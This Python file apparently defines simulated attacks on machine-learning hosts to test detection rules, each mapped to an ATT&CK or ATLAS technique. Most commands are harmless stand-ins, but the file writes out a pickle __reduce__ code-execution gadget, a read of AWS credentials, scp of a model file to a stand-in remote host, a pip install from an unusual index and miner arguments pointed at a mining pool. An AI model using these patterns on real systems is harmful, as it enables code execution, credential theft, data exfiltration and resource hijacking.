"""Attacks on machines with models."""

from action import CONNECT, Action, in_unit, python

_PICKLE = """
import os, pickle
class Model:
    def __reduce__(self):
        return os.system, ("id > /dev/null",)
pickle.loads(pickle.dumps(Model()))
"""

MODELS = (
    Action(
        "run shell from notebook",
        "T1059.004",
        ("Notebook started a shell",),
        in_unit(
            "jupyter-attacked-singleuser",
            'python3 -c "import subprocess; subprocess.run(\\"id > /dev/null\\", shell=True)" ipykernel_launcher',
        ),
    ),
    Action(
        "notebook listens",
        "T1571",
        ("Notebook listens to the network",),
        in_unit(
            "jupyter-attacked-singleuser",
            'python3 -c "import socket; socket.create_server((\\"0.0.0.0\\", 0))" ipykernel_launcher',
        ),
    ),
    Action(
        "notebook reads credentials",
        "T1552.001",
        ("Notebook reads credentials",),
        'mkdir "$WORK/.aws"; echo > "$WORK/.aws/credentials"; '
        + in_unit(
            "jupyter-attacked-singleuser",
            'python3 -c "import os; open(os.environ[\\"WORK\\"] + \\"/.aws/credentials\\").read()" ipykernel_launcher',
        ),
    ),
    Action(
        "model exfiltration",
        "AML.T0025",
        ("Notebook sends files away",),
        'cp /usr/bin/true "$WORK/scp"; '
        + in_unit(
            "jupyter-attacked-singleuser",
            'python3 -c "import os, subprocess; '
            'subprocess.run([os.environ[\\"WORK\\"] + \\"/scp\\", \\"m.pt\\", \\"a@192.0.2.1:\\"])" ipykernel_launcher',
        ),
    ),
    Action(
        "model read to be carried away",
        "AML.T0024",
        ("Model file read by a transfer program",),
        'mkdir -p /var/lib/models; echo > /var/lib/models/attack.onnx; cp /usr/bin/cat "$WORK/rclone"; '
        '"$WORK/rclone" /var/lib/models/attack.onnx; rm /var/lib/models/attack.onnx',
    ),
    Action(
        "data set packed",
        "T1560.001",
        ("Model or data packed",),
        'echo > "$WORK/a.safetensors"; tar -C "$WORK" -cf "$WORK/a.tar" a.safetensors',
    ),
    Action(
        "model replaced",
        "AML.T0018",
        ("Model file changed",),
        "mkdir -p /var/lib/models; echo > /var/lib/models/a.onnx; rm /var/lib/models/a.onnx",
    ),
    Action(
        "pickle executes a program",
        "AML.T0011",
        ("Model service started a program",),
        in_unit("attacked-inference", python(_PICKLE)),
    ),
    Action(
        "write into the Python environment",
        "T1574",
        ("Python environment changed",),
        "echo > /opt/ai/attack.pth; rm -f /opt/ai/attack.pth",
        "test -w /opt/ai && touch /opt/ai/.attack && rm /opt/ai/.attack",
        "no writable /opt/ai",
    ),
    Action(
        "package from an unusual index",
        "T1195.001",
        ("Package installed from an unusual index",),
        'cp /usr/bin/true "$WORK/pip"; "$WORK/pip" install --index-url http://192.0.2.1/ torch',
    ),
    Action(
        "accelerator opened by an unexpected program",
        "T1496",
        ("Accelerator opened by an unexpected program",),
        "mknod -m 666 /dev/nvidia0 c 1 3; head -c 0 /dev/nvidia0; rm /dev/nvidia0",
        "! test -e /dev/nvidia0",
        "a GPU is there",
    ),
    Action("miner", "T1496", ("Miner started",), 'cp /usr/bin/true "$WORK/xmrig"; "$WORK/xmrig"'),
    Action(
        "miner's arguments",
        "T1496",
        ("Miner's arguments",),
        'cp /usr/bin/true "$WORK/worker"; "$WORK/worker" -o stratum+tcp://192.0.2.1:3333',
    ),
    Action(
        "connection to a mining pool",
        "T1496",
        ("Connection to a mining pool's port",),
        python(CONNECT, "192.0.2.1 3333"),
    ),
)
